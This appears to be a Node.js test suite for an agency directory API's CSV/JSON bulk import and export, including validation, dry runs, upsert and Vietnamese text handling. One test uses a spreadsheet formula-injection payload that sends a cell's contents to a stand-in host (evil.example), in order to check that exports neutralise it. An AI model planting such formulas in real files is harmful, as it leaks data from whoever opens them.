// Bulk import of agencies (CSV and JSON, dry run, all-or-nothing) and export.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import {
  CSV_COLUMNS,
  agencyByCode,
  allAgencies,
  assertProblem,
  assertStatus,
  freshDepartmentCodes,
  parseCsv,
  toCsv,
} from '../support/api-assert.mjs';
import { PROVINCE_CODE, loggedIn, startServer } from '../support/cqdt-server.mjs';

let server;
let admin;
let csvRowBase; // number the server gives the first data row of a CSV (learned from a success)
let jsonRowBase; // same for items[0] of a JSON import

before(async () => {
  server = await startServer();
  admin = await loggedIn(server.baseUrl, 'admin');
});
after(async () => {
  await server?.stop();
});

const importCsv = (csv, query = '') =>
  admin.post(`/agencies/import${query}`, csv, {
    raw: true,
    headers: { 'Content-Type': 'text/csv; charset=utf-8' },
  });

const dept = (code, name, extra = {}) => ({
  code,
  name,
  shortName: extra.shortName ?? name.split(' ').map((w) => w[0]).join('').toUpperCase(),
  kind: 'department',
  parentCode: PROVINCE_CODE,
  ...extra,
});

// Names chosen to exercise UTF-8 (precomposed Vietnamese), commas and quotes.
const NAMES = [
  'Sở Văn hóa, Thể thao và Du lịch (thử nghiệm)',
  'Ban Quản lý Khu kinh tế "Phú Quốc" thử nghiệm',
  'Sở Nông nghiệp và Môi trường – Chi cục Thủy lợi',
];

test('CSV import of 3 valid rows: 200 {imported: 3, rows ok}', async () => {
  const before = await allAgencies(admin);
  const codes = await freshDepartmentCodes(admin, 3);
  const rows = codes.map((c, i) =>
    dept(c, NAMES[i], {
      address: 'Số 1 đường Tôn Đức Thắng, phường Long Xuyên, tỉnh An Giang',
      phone: '0296 3852 000',
      email: `so${i}@angiang.gov.vn`,
      website: 'https://angiang.gov.vn',
      validFrom: '2025-07-01',
    }),
  );
  const csv = toCsv(rows);
  for (const n of NAMES) assert.equal(n, n.normalize('NFC'), 'test data is NFC');

  const res = await importCsv(csv);
  assertStatus(res, 200);
  assert.equal(res.body.imported, 3);
  assert.equal(res.body.rows.length, 3);
  assert.ok(res.body.rows.every((r) => r.status === 'ok'), JSON.stringify(res.body.rows));
  const numbers = res.body.rows.map((r) => r.row);
  csvRowBase = Math.min(...numbers);
  assert.ok([1, 2].includes(csvRowBase), `CSV rows are numbered from 1 (data) or 2 (file line); got ${csvRowBase}`);
  assert.deepEqual(numbers, [csvRowBase, csvRowBase + 1, csvRowBase + 2]);

  const after = await allAgencies(admin);
  assert.equal(after.length, before.length + 3);
  const province = await agencyByCode(admin, PROVINCE_CODE);
  for (const [i, r] of rows.entries()) {
    const a = after.find((x) => x.code === r.code);
    assert.ok(a, `${r.code} imported`);
    assert.equal(a.name, NAMES[i], 'Vietnamese name survives byte for byte (NFC)');
    assert.equal(a.name, a.name.normalize('NFC'));
    assert.equal(a.shortName, r.shortName);
    assert.equal(a.kind, 'department');
    assert.equal(a.level, 'province');
    assert.equal(a.parentId, province.id);
    assert.equal(a.address, r.address);
    assert.equal(a.phone, r.phone);
    assert.equal(a.email, r.email);
    assert.equal(a.website, r.website);
    assert.equal(a.validFrom, '2025-07-01');
    assert.equal(a.validTo, null);
    assert.equal(a.active, true);
  }
});

test('CSV with broken rows among good ones: 422 with the bad rows, nothing imported', async () => {
  const before = await allAgencies(admin);
  const [good1, good2, good3, badKind, noName] = await freshDepartmentCodes(admin, 5);
  const rows = [
    dept(good1, 'Sở Tốt Một'), //             data row 0
    dept('000.00.7.H01', 'Sở Mã Sai'), //      data row 1: bad code
    dept(good2, 'Sở Tốt Hai'), //              data row 2
    dept(badKind, 'Sở Loại Lạ', { kind: 'ministry' }), // data row 3: unknown kind
    dept(noName, '', { shortName: 'KT' }), //   data row 4: missing name
    dept(good3, 'Sở Tốt Ba'), //               data row 5
  ];
  const res = await importCsv(toCsv(rows));
  const body = assertProblem(res, 422, 'validation');
  assert.ok(Array.isArray(body.rows), `422 carries rows[]: ${res.text}`);
  const base = csvRowBase ?? 2;
  const rejected = body.rows.filter((r) => r.status === 'rejected');
  assert.deepEqual(
    rejected.map((r) => r.row),
    [base + 1, base + 3, base + 4],
    'exactly the broken rows are reported, numbered like successful rows',
  );
  for (const r of body.rows) assert.ok(['ok', 'rejected'].includes(r.status));
  const fieldsOf = (n) => rejected.find((r) => r.row === n).errors.map((e) => e.field);
  assert.ok(fieldsOf(base + 1).includes('code'), `row ${base + 1}: code`);
  assert.ok(fieldsOf(base + 3).includes('kind'), `row ${base + 3}: kind`);
  assert.ok(fieldsOf(base + 4).includes('name'), `row ${base + 4}: name`);
  for (const r of rejected) {
    for (const e of r.errors) {
      assert.ok(e.message && /[^\x00-\x7f]/.test(e.message), `Vietnamese reason: ${JSON.stringify(e)}`);
    }
  }
  assert.deepEqual(await allAgencies(admin), before, 'nothing imported');
});

test('CSV rows duplicating an existing code or each other are rejected; nothing imported', async () => {
  const before = await allAgencies(admin);
  const [a, b] = await freshDepartmentCodes(admin, 2);
  const res = await importCsv(
    toCsv([dept(a, 'Sở Mới'), dept(PROVINCE_CODE, 'Trùng mã tỉnh'), dept(b, 'Sở Bản Một'), dept(b, 'Sở Bản Hai')]),
  );
  const body = assertProblem(res, 422, 'validation');
  const base = csvRowBase ?? 2;
  const rejected = body.rows.filter((r) => r.status === 'rejected').map((r) => r.row);
  assert.ok(rejected.includes(base + 1), `existing code rejected: ${JSON.stringify(body.rows)}`);
  assert.ok(rejected.includes(base + 3), `duplicate within the file rejected: ${JSON.stringify(body.rows)}`);
  assert.ok(!rejected.includes(base), 'the good row is not rejected');
  assert.deepEqual(await allAgencies(admin), before, 'nothing imported');
});

test('CSV framing: missing header or an unterminated quote is refused, nothing imported', async () => {
  const before = await allAgencies(admin);
  const [code] = await freshDepartmentCodes(admin);
  const noHeader = `${code},Sở Không Tiêu Đề,SKTĐ,department,${PROVINCE_CODE}\r\n`;
  const r1 = await importCsv(noHeader);
  assert.ok([400, 422].includes(r1.status), `missing header: 400 or 422, got ${r1.status} ${r1.text}`);
  const broken = `code,name,shortName,kind,parentCode\r\n${code},"Sở Dở Dang,SDD,department,${PROVINCE_CODE}\r\n`;
  // Bad CSV framing cannot be parsed at all: 400 malformed.
  assertProblem(await importCsv(broken), 400, 'malformed');
  const unknownColumn = `code,name,shortName,kind,parentCode,colour\r\n${code},Sở Màu,SM,department,${PROVINCE_CODE},đỏ\r\n`;
  const r3 = await importCsv(unknownColumn);
  assertProblem(r3, 422, 'validation');
  assert.deepEqual(await allAgencies(admin), before, 'nothing imported');
});

test('JSON import {items: AgencyInput[]}: 200 and imported', async () => {
  const before = await allAgencies(admin);
  const [a, b] = await freshDepartmentCodes(admin, 2);
  const res = await admin.post('/agencies/import', {
    items: [dept(a, 'Sở Tài chính thử nghiệm'), dept(b, 'Sở Xây dựng thử nghiệm', { shortName: 'SXD' })],
  });
  assertStatus(res, 200);
  assert.equal(res.body.imported, 2);
  assert.ok(res.body.rows.every((r) => r.status === 'ok'));
  jsonRowBase = Math.min(...res.body.rows.map((r) => r.row));
  assert.ok([0, 1].includes(jsonRowBase), `JSON rows numbered from 0 or 1, got ${jsonRowBase}`);
  const after = await allAgencies(admin);
  assert.equal(after.length, before.length + 2);
  assert.equal(after.find((x) => x.code === a).name, 'Sở Tài chính thử nghiệm');
  assert.equal(after.find((x) => x.code === b).shortName, 'SXD');
});

test('JSON import with one bad item: 422 naming it, nothing imported', async () => {
  const before = await allAgencies(admin);
  const [a, b] = await freshDepartmentCodes(admin, 2);
  const res = await admin.post('/agencies/import', {
    items: [dept(a, 'Sở Tốt JSON'), dept(b, 'Sở Lạ JSON', { kind: 'ministry' })],
  });
  const body = assertProblem(res, 422, 'validation');
  const base = jsonRowBase ?? 1;
  assert.deepEqual(body.rows.filter((r) => r.status === 'rejected').map((r) => r.row), [base + 1]);
  assert.deepEqual(await allAgencies(admin), before, 'nothing imported');
});

test('dryRun=true validates but imports nothing', async () => {
  const before = await allAgencies(admin);
  const codes = await freshDepartmentCodes(admin, 2);
  const csv = toCsv(codes.map((c, i) => dept(c, `Sở Chạy Thử ${i + 1}`)));
  const res = await importCsv(csv, '?dryRun=true');
  assertStatus(res, 200);
  assert.equal(res.body.rows.length, 2);
  assert.ok(res.body.rows.every((r) => r.status === 'ok'));
  assert.deepEqual(await allAgencies(admin), before, 'nothing imported by a dry run');

  // A dry run still reports bad rows.
  const bad = await importCsv(toCsv([dept(codes[0], 'Sở Tốt'), dept('000.00.00.h01', 'Sở Mã Sai')]), '?dryRun=true');
  const body = assertProblem(bad, 422, 'validation');
  assert.deepEqual(body.rows.filter((r) => r.status === 'rejected').map((r) => r.row), [(csvRowBase ?? 2) + 1]);
  assert.deepEqual(await allAgencies(admin), before);

  // And the same file then imports for real.
  const real = await importCsv(csv);
  assertStatus(real, 200);
  assert.equal(real.body.imported, 2);
});

test('export csv: contract header, every agency, imported rows round-trip', async () => {
  const agencies = await allAgencies(admin);
  const res = await admin.get('/agencies/export?format=csv');
  assertStatus(res, 200);
  assert.match(res.contentType, /^text\/csv/);
  const table = parseCsv(res.text).filter((r) => r.length > 1 || r[0] !== '');
  assert.deepEqual(table[0], CSV_COLUMNS, 'header row is the contract column list');
  const rows = table.slice(1).map((r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i] ?? ''])));
  const active = agencies.filter((a) => a.active);
  for (const a of active) assert.ok(rows.some((r) => r.code === a.code), `${a.code} exported`);

  // The three agencies of the first import, with their Vietnamese names intact.
  for (const name of NAMES) {
    const a = agencies.find((x) => x.name === name);
    assert.ok(a, `imported agency ${name}`);
    const r = rows.find((x) => x.code === a.code);
    assert.ok(r, `${a.code} exported`);
    assert.equal(r.name, name);
    assert.equal(r.shortName, a.shortName);
    assert.equal(r.kind, 'department');
    assert.equal(r.parentCode, PROVINCE_CODE);
    assert.equal(r.address, a.address);
    assert.equal(r.email, a.email);
    assert.equal(r.validFrom, '2025-07-01');
  }

  // Round trip: the exported rows of those agencies, re-imported as a dry run after changing
  // their codes, are valid as they are.
  const fresh = await freshDepartmentCodes(admin, 3);
  const again = NAMES.map((name, i) => ({ ...rows.find((r) => r.name === name), code: fresh[i] }));
  const dry = await importCsv(toCsv(again), '?dryRun=true');
  assertStatus(dry, 200);
  assert.ok(dry.body.rows.every((r) => r.status === 'ok'));
});

test('export json contains the imported agencies with their names', async () => {
  const res = await admin.get('/agencies/export?format=json');
  assertStatus(res, 200);
  assert.match(res.contentType, /^application\/json/);
  const items = Array.isArray(res.body) ? res.body : res.body?.items;
  assert.ok(Array.isArray(items), 'an array or {items: []}');
  for (const name of NAMES) {
    const a = items.find((x) => x.name === name);
    assert.ok(a, `${name} exported`);
    assert.match(a.code, /^000\.00\.\d{2}\.H01$/);
  }
});

test('export csv neutralises cells a spreadsheet would run as formulas; import reads them back', async () => {
  const [code] = await freshDepartmentCodes(admin);
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")';
  const created = await admin.post('/agencies', {
    code,
    name: formula,
    shortName: 'SCT',
    kind: 'department',
    parentCode: PROVINCE_CODE,
    phone: '+84 296 3852 000',
    address: '-',
  });
  assertStatus(created, 201);
  const res = await admin.get('/agencies/export?format=csv');
  assertStatus(res, 200);
  const line = res.text.split('\r\n').find((l) => l.startsWith(`${code},`));
  assert.ok(line, `${code} exported`);
  // Each dangerous cell starts with an apostrophe, which spreadsheets take as "text".
  assert.ok(line.includes(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Bấm vào đây"")",`), line);
  assert.ok(line.includes(",'-,"), line);
  assert.ok(line.includes(",'+84 296 3852 000,"), line);
  for (const cell of parseCsv(line)[0]) {
    assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts with a formula character: ${cell}`);
  }
  // The exported row, imported as a dry run under a new code, carries the original values.
  const [fresh] = await freshDepartmentCodes(admin);
  const header = res.text.split('\r\n')[0].replace(/^\uFEFF/, '');
  const csv = `${header}\r\n${line.replace(code, fresh)}\r\n`;
  const dry = await importCsv(csv, '?dryRun=true');
  assertStatus(dry, 200);
  const real = await importCsv(csv);
  assertStatus(real, 200);
  const imported = await agencyByCode(admin, fresh);
  assert.equal(imported.name, formula);
  assert.equal(imported.phone, '+84 296 3852 000');
  assert.equal(imported.address, '-');
});

test('row numbers are file lines (header = line 1); an impossible date is "ngày không hợp lệ"', async () => {
  const before = await allAgencies(admin);
  const [a, b, c] = await freshDepartmentCodes(admin, 3);
  const csv = [
    'code,name,shortName,kind,parentCode,validFrom',
    `${a},Sở Dòng Hai,SDH,department,${PROVINCE_CODE},2025-07-01`,
    `${b},Sở Ngày Lạ,SNL,department,${PROVINCE_CODE},2025-13-01`,
    `${c},Sở Loại Lạ,SLL,ministry,${PROVINCE_CODE},2025-07-01`,
  ].join('\r\n');
  const body = assertProblem(await importCsv(csv), 422, 'validation');
  assert.deepEqual(body.rows.map((r) => r.row), [2, 3, 4], 'the 4th line of the file is row 4');
  const date = body.rows.find((r) => r.row === 3).errors;
  assert.equal(date[0].field, 'validFrom');
  assert.equal(date[0].code, 'date');
  assert.match(date[0].message, /ngày không hợp lệ/);
  assert.doesNotMatch(date[0].message, /YYYY-MM-DD/);
  const kind = body.rows.find((r) => r.row === 4).errors;
  assert.match(kind[0].message, /Sở, ban, ngành \(department\)/, 'kinds named by their label');
  assert.ok(body.errors.some((e) => e.field === 'rows[3].validFrom'));
  assert.deepEqual(await allAgencies(admin), before, 'nothing imported');
});

test('mode=upsert: re-importing the export changes nothing; edits update; new rows are created', async () => {
  const exported = await admin.get('/agencies/export?format=csv');
  assertStatus(exported, 200);
  const before = await allAgencies(admin);
  // As new agencies (the default mode), every row collides.
  assertProblem(await importCsv(exported.text), 422, 'validation');
  const same = await importCsv(exported.text, '?mode=upsert');
  assertStatus(same, 200);
  assert.equal(same.body.mode, 'upsert');
  assert.equal(same.body.imported, 0);
  assert.equal(same.body.unchanged, before.length);
  assert.ok(same.body.rows.every((r) => r.status === 'ok' && r.action === 'unchanged'));
  assert.deepEqual(await allAgencies(admin), before, 'a no-op');

  // Edit one name in the file and add one row: one update, one creation.
  const table = parseCsv(exported.text).filter((r) => r.length > 1);
  const header = table[0];
  const target = before.find((a) => a.code === PROVINCE_CODE);
  const rows = table.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
  const edited = rows.map((r) =>
    r.code === PROVINCE_CODE && r.validFrom === target.validFrom ? { ...r, name: `${r.name} (sửa)` } : r,
  );
  const [fresh] = await freshDepartmentCodes(admin);
  edited.push(dept(fresh, 'Sở Thêm Khi Cập Nhật', { validFrom: '2025-07-01' }));
  const res = await importCsv(toCsv(edited, header), '?mode=upsert');
  assertStatus(res, 200);
  assert.equal(res.body.updated, 1);
  assert.equal(res.body.created, 1);
  assert.equal(res.body.imported, 2);
  assert.equal((await agencyByCode(admin, PROVINCE_CODE)).name, `${target.name} (sửa)`);
  assert.ok(await agencyByCode(admin, fresh));
  // Put the name back for the other tests.
  assertStatus(await admin.patch(`/agencies/${target.id}`, { name: target.name }), 200);

  assertProblem(await importCsv(exported.text, '?mode=replace'), 422, 'validation', { fields: ['mode'] });
});
